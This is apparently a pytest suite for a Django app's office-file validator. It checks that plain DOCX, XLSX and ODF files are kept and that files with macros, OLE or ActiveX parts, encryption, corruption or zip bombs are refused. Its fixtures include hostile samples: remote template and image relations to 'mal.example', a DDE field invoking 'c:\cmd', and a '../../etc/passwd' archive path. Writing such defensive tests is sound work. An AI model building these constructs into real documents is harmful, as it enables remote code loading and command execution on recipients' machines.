"""Office files: kept as they are when they are what they say; refused, with what to do, when they act or call out."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from socle import bureautique, fichiers

TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/{corps}" ContentType="{type}"/>'
    "</Types>"
)
RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
RELATION = '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/{0}" Target="{1}" TargetMode="External"/>'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
MANIFESTE = '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">{}</m:manifest>'
ODF = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">{}</office:document-content>'
)


def archive(parties, *, stocke=()):
    sortie = io.BytesIO()
    with zipfile.ZipFile(sortie, "w", zipfile.ZIP_DEFLATED) as z:
        for nom, contenu in parties.items():
            z.writestr(nom, contenu, zipfile.ZIP_STORED if nom in stocke else None)
    return sortie.getvalue()


def docx(corps=f"<w:document {W}/>", relations="", **autres):
    return archive(
        {
            "[Content_Types].xml": TYPES.format(corps="word/document.xml", type=f"{bureautique.DOCX}.main+xml"),
            "word/document.xml": corps,
            "word/_rels/document.xml.rels": RELATIONS.format(relations),
        }
        | autres
    )


def xlsx(**autres):
    types = TYPES.format(corps="xl/workbook.xml", type=f"{bureautique.XLSX}.main+xml")
    return archive({"[Content_Types].xml": types, "xl/workbook.xml": "<workbook/>"} | autres)


def odf(mime=bureautique.ODT, corps="", manifeste="", **autres):
    parties = {
        "mimetype": mime,
        "content.xml": ODF.format(corps),
        "META-INF/manifest.xml": MANIFESTE.format(manifeste),
    }
    return archive(parties | autres, stocke=("mimetype",))


LIEN = RELATION.format("officeDocument/2006/relationships/hyperlink", "https://www.caf.fr/")


@pytest.mark.parametrize(
    ("brut", "mime"),
    [
        (docx(), bureautique.DOCX),
        (docx(relations=LIEN), bureautique.DOCX),
        (xlsx(), bureautique.XLSX),
        (odf(), bureautique.ODT),
        (odf(bureautique.ODS), bureautique.ODS),
        (odf(corps='<text:a xlink:href="https://www.caf.fr/">Caf</text:a>'), bureautique.ODT),
    ],
)
def test_a_plain_office_file_is_kept(brut, mime):
    assert bureautique.verifier(brut) == mime


MODELE = RELATION.format("officeDocument/2006/relationships/attachedTemplate", "http://mal.example/m.dotm")
IMAGE = RELATION.format("officeDocument/2006/relationships/image", "http://mal.example/p.png")
UTF16 = RELATIONS.format(MODELE).encode("utf-16")
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


@pytest.mark.parametrize(
    ("brut", "phrase"),
    [
        (docx(**{"word/vbaProject.bin": "x"}), "macros"),
        (docx(**{"word/VBAPROJECT.BIN": "x"}), "macros"),
        (docx(**{"word/embeddings/oleObject1.bin": "x"}), "macros"),
        (docx(**{"word/activeX/activeX1.xml": "<a/>"}), "macros"),
        (
            archive(
                {
                    "[Content_Types].xml": TYPES.format(
                        corps="word/document.xml", type="application/vnd.ms-word.document.macroEnabled.main+xml"
                    ),
                    "word/document.xml": "<a/>",
                }
            ),
            "macros",
        ),
        (docx(relations=MODELE), "ailleurs|autre fichier"),
        (docx(relations=IMAGE), "autre fichier"),
        (docx(**{"word/_rels/settings.xml.rels": UTF16}), "autre fichier"),
        (
            docx(
                f"<w:document {W}><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd</w:instrText></w:document>"
            ),
            "autre fichier",
        ),
        (xlsx(**{"xl/externalLinks/externalLink1.xml": "<a/>"}), "autre fichier"),
        (xlsx(**{"xl/connections.xml": "<a/>"}), "autre fichier"),
        (odf(**{"Basic/Standard/Module1.xml": "<a/>"}), "macros"),
        (odf(corps='<script:event-listener script:language="ooo:script"/>'), "macros"),
        (odf(corps='<draw:image xlink:href="http://mal.example/p.png"/>'), "autre fichier"),
        (odf(manifeste="<m:file-entry><m:encryption-data/></m:file-entry>"), "mot de passe"),
        (OLE + "EncryptedPackage".encode("utf-16-le"), "mot de passe"),
        (OLE, r"\.docx"),
        (b"{\\rtf1 rien}", r"\.docx"),
        (archive({"a.txt": "x"}), "abîmé"),
        (archive({"[Content_Types].xml": "<Types/>", "word/document.xml": "<a/>"}), "abîmé"),
        (odf("application/zip"), "abîmé"),
        (docx(**{"../../etc/passwd": "x"}), "abîmé"),
        (docx("<pas du xml"), "abîmé"),
        (docx()[:200], "abîmé"),
        (docx() + b"%PDF-1.7", "abîmé"),
        (docx() + docx(), "abîmé"),
    ],
)  # fmt: skip
def test_an_office_file_that_acts_calls_out_or_is_something_else_says_what_to_do(brut, phrase):
    with pytest.raises(ValidationError, match=phrase):
        bureautique.verifier(brut)


def test_a_file_before_the_archive_is_seen():
    with pytest.raises(ValidationError):
        bureautique.verifier(b"PK\x03\x04" + b"\0" * 40 + docx())


def test_a_bomb_is_refused_before_it_is_opened(monkeypatch):
    bombe = docx(**{"word/media/zeros.bin": b"\0" * (bureautique.OUVERT_MAX + 1)})
    assert len(bombe) < 1024 * 1024
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda *_: pytest.fail("opened"))
    with pytest.raises(ValidationError, match="abîmé"):
        bureautique.verifier(bombe)


@pytest.mark.django_db
@pytest.mark.parametrize(("contenu", "mime"), [(docx(), bureautique.DOCX), (xlsx(), bureautique.XLSX)])
def test_an_office_file_is_kept_under_its_own_type(contenu, mime):
    """Their types are the longest there are: the row holds them whole."""
    upload = SimpleUploadedFile("budget", contenu)
    fichier = fichiers.store(upload, kind="piece", regle="promeneurs.photo", by=None)
    fichier.refresh_from_db()
    assert fichier.type_mime == mime
